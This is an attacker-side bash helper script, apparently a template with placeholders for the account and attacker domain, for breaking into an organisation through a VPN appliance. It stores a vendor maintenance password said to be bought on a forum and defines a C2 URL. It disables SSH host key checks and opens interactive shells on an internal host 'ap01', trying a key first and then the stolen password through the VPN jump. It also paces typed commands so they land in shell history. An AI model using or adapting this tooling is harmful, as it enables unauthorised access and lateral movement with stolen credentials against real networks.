# Operator helpers (attacker side, sourced by the other scripts).
OPS=/root/ops
KEY=$OPS/id_ed25519
VPN=vpn.city.kaede.example
ACCOUNT={{account}}
# bought on a forum: the vendor's maintenance login, reused at every customer of the vendor
PW='Midori@2021'
C2=http://{{attacker_domain}}:8080
SSHO="-o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o LogLevel=ERROR -o ConnectTimeout=8"

log() { echo "$(date -u +%FT%TZ) $*" >> "$OPS/op.log"; }

# Type commands into an interactive shell (so they land in its .bash_history), a little apart.
typed() {
    while IFS= read -r line; do
        case $line in
            "#sleep "*) sleep "${line#\#sleep }" ;;
            *) printf '%s\n' "$line"; sleep 0.4 ;;
        esac
    done
}

# Can this ssh command (destination last) open a tunnel? (a jump needs no more)
tunnels() { "$@" -W localhost:22 </dev/null 2>/dev/null | head -c 4 | grep -q SSH-; }

# A working way through the VPN appliance: sets VIA (an ssh command for ProxyCommand).
vpn_access() {
    if [ -f "$KEY" ] && tunnels ssh $SSHO -o BatchMode=yes -i "$KEY" "$ACCOUNT@$VPN"; then
        VIA="ssh $SSHO -o BatchMode=yes -i $KEY $ACCOUNT@$VPN"; return 0
    fi
    if tunnels sshpass -p "$PW" ssh $SSHO -o PubkeyAuthentication=no "$ACCOUNT@$VPN"; then
        VIA="sshpass -p $PW ssh $SSHO -o PubkeyAuthentication=no $ACCOUNT@$VPN"; return 0
    fi
    return 1
}

# An interactive shell on ap01 through the VPN (key first, then the reused password), reading stdin,
# for at most $1 seconds.
to_ap01() {
    if ssh $SSHO -o BatchMode=yes -o ProxyCommand="$VIA -W %h:%p" -i "$KEY" "$ACCOUNT@ap01" true </dev/null 2>/dev/null; then
        timeout "$1" ssh -tt $SSHO -o BatchMode=yes -o ProxyCommand="$VIA -W %h:%p" -i "$KEY" "$ACCOUNT@ap01"
    else
        timeout "$1" sshpass -p "$PW" ssh -tt $SSHO -o PubkeyAuthentication=no -o ProxyCommand="$VIA -W %h:%p" "$ACCOUNT@ap01"
    fi
}
